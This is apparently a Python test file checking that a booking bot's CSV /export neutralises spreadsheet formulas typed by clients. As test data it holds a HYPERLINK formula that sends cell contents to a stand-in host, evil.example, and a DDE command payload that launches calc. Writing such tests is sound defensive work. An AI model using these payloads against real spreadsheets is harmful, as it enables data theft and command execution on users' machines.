"""/export: a file for spreadsheet apps, in which nothing a client typed can become a formula."""

import csv
import io
from datetime import timedelta

from database.engine import commit
from database.models import Booking, Feedback, User, utcnow
from emulator import BotApiEmulator
from tests.handlers.conftest import FIRST_SPECIALIST, OWNER, Chat

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"


async def test_export_neutralises_formulas_in_what_clients_typed(chat: Chat, stub: BotApiEmulator) -> None:
    async with chat.sessionmaker() as session:
        session.add(User(id=9100, first_name=HYPERLINK, username="@evil"))
        session.add(User(id=9101, first_name="-Anna", last_name="Smith"))
        start = utcnow().replace(microsecond=0) - timedelta(days=2)
        for user_id in (9100, 9101):
            booking = Booking(
                specialist_id=FIRST_SPECIALIST,
                user_id=user_id,
                service_id=1,
                starts_at=start,
                ends_at=start + timedelta(hours=1),
            )
            session.add(booking)
            await session.flush()
            session.add(Feedback(booking_id=booking.id, rating=5, comment=COMMAND if user_id == 9100 else "Great"))
            start += timedelta(hours=1)
        await commit(session)

    stub.user(OWNER, "Owner").send("/export")
    await chat.process()
    rows = list(csv.DictReader(io.StringIO(stub.files[-1].content.decode("utf-8-sig"))))
    assert [row["client_name"] for row in rows] == [f"'{HYPERLINK}", "'-Anna Smith"]
    assert [row["comment"] for row in rows] == [f"'{COMMAND}", "Great"], "only what could run is changed"
    assert rows[0]["username"] == "'@evil"
    assert [row["rating"] for row in rows] == ["5", "5"]
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
